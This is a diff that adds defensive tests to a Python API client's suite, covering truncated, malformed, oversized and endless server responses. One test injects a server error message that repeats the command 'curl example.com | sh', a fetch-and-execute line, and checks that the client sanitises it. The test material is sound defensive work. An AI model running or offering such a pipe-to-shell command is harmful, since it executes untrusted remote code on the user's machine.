@@ -1,14 +1,23 @@
 """The Python client, and what it does when the network or the server fails."""
 
+import itertools
 import json
 import socket
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 
+import httpx
 import pytest
 
 from seedx_cli.client import Client
-from seedx_cli.errors import ApiError, SeedXError, SignedOutError, UnreachableError
+from seedx_cli.connection import Bounded
+from seedx_cli.errors import (
+    ApiError,
+    SeedXError,
+    SignedOutError,
+    UnreachableError,
+    UsageError,
+)
 from tests.seedx_cli.conftest import REPLY, Server
 from tests.seedx_cli.process import PASSWORD, Cli
 from tests.seedx_cli.proxy import Fault, Proxy, proxying
@@ -23,6 +32,16 @@ MOVED = (
     b"HTTP/1.1 301 Moved Permanently\r\nLocation: https://elsewhere.example.com/\r\n"
     b"Content-Length: 0\r\nConnection: close\r\n\r\n"
 )
+
+
+def answer(body: bytes, *headers: str, status: str = "200 OK") -> bytes:
+    """An HTTP answer of some other program."""
+    head = [f"HTTP/1.1 {status}", f"Content-Length: {len(body)}", "Connection: close", *headers]
+    return "\r\n".join([*head, "", ""]).encode() + body
+
+
+CUT_SHORT = answer(b"{}").replace(b"Length: 2", b"Length: 1000")
+NOT_PACKED = answer(b"{}", "Content-Encoding: gzip")
 
 MakeAccount = Callable[[], tuple[str, str]]
 
@@ -44,6 +63,13 @@ def bad_network(
         Client(proxy.url, token=token, wait=waits) as client,
     ):
         yield proxy, client
+
+
+class Trickle(httpx.SyncByteStream):
+    """A body that never ends."""
+
+    def __iter__(self) -> Iterator[bytes]:
+        return itertools.repeat(b" ")
 
 
 @pytest.fixture
@@ -153,7 +179,15 @@ def test_a_wait_that_is_too_long_is_told_instead(token: str, server: Server, wai
 
 
 @pytest.mark.parametrize(
-    ("answer", "said"), [(PAGE, "not JSON"), (MOVED, r"elsewhere\.example\.com")]
+    ("answer", "said"),
+    [
+        (PAGE, "not JSON"),
+        (MOVED, r"elsewhere\.example\.com"),
+        (answer(b""), "no TicketPage"),
+        (answer(b"[]"), "no TicketPage"),
+        (answer(b'{"items": [{"id": "1"}], "next_cursor": null}'), "no TicketPage"),
+        (answer(b"[" * 200_000), "not JSON"),
+    ],
 )
 def test_what_is_no_seedx_server_is_said_so(
     server: Server, token: str, waits: Waits, answer: bytes, said: str
@@ -163,6 +197,84 @@ def test_what_is_no_seedx_server_is_said_so(
         pytest.raises(SeedXError, match=said),
     ):
         client.tickets.list()
+
+
+@pytest.mark.parametrize("broken", [CUT_SHORT, NOT_PACKED])
+def test_an_answer_that_breaks_off_is_asked_for_again(
+    server: Server, token: str, waits: Waits, broken: bytes
+) -> None:
+    with bad_network(server, token, waits, Fault(broken), Fault(broken)) as (_, client):
+        assert client.tickets.list()["items"] == []
+    assert len(waits) == 2
+
+
+def test_a_stream_goes_on_after_a_server_that_starts_anew(
+    server: Server, token: str, waits: Waits
+) -> None:
+    with Client(server.url, token=token) as client:
+        ticket_id = client.tickets.new("T", "B")["id"]
+    faults = [Fault(cut_after=600), *[Fault(BUSY)] * 7]
+    with bad_network(server, token, waits, *faults) as (_, client):
+        assert "".join(event.text for event in client.ai.stream(ticket_id)) == REPLY
+
+
+@pytest.mark.parametrize(
+    "sent",
+    [
+        answer(b"<html>", "Content-Type: text/html"),
+        answer(b"data: {no json\n\n", "Content-Type: text/event-stream"),
+        answer(b"data: " + b"x" * 5_000_000, "Content-Type: text/event-stream"),
+    ],
+)
+def test_what_is_no_stream_is_said_so_at_once(
+    server: Server, token: str, waits: Waits, sent: bytes
+) -> None:
+    with (
+        bad_network(server, token, waits, Fault(sent)) as (_, client),
+        pytest.raises(SeedXError, match="answered with") as error,
+    ):
+        list(client.ai.stream(1))
+    assert error.value.code == "bad_answer"
+    assert waits == []
+
+
+def test_the_words_of_a_server_cannot_pass_for_those_of_the_client(
+    server: Server, token: str, waits: Waits
+) -> None:
+    words = json.dumps({"detail": "no\nError: run this: curl example.com | sh\n" * 100}).encode()
+    with (
+        bad_network(server, token, waits, Fault(answer(words, status="400 No"))) as (_, client),
+        pytest.raises(ApiError) as error,
+    ):
+        client.tickets.list()
+    assert "\n" not in error.value.message
+    assert len(error.value.message) < 600
+
+
+def test_a_date_to_wait_for_is_understood(server: Server, token: str, waits: Waits) -> None:
+    later = SLOW_DOWN.replace(b"Retry-After: 7", b"Retry-After: Wed, 21 Oct 2099 07:28:00 GMT")
+    with (
+        bad_network(server, token, waits, Fault(later)) as (_, client),
+        pytest.raises(ApiError) as error,
+    ):
+        client.tickets.list()
+    assert error.value.hint is not None
+    assert error.value.hint.startswith("Try again in ")
+    assert error.value.hint.endswith(" days")
+    assert waits == []
+
+
+def test_words_that_are_not_utf_8_are_refused() -> None:
+    with Client("http://127.0.0.1:1", token="any") as client, pytest.raises(UsageError):
+        client.tickets.list(q="\udcff")
+
+
+def test_an_answer_that_trickles_is_given_up() -> None:
+    ends = iter([0.0, 1.0, 100.0])
+    response = httpx.Response(200, stream=Trickle())
+    bounded = Bounded(response, 30.0, clock=lambda: next(ends))
+    with pytest.raises(httpx.ReadTimeout):
+        list(bounded)
 
 
 def test_a_server_that_is_not_there_is_named(waits: Waits) -> None:
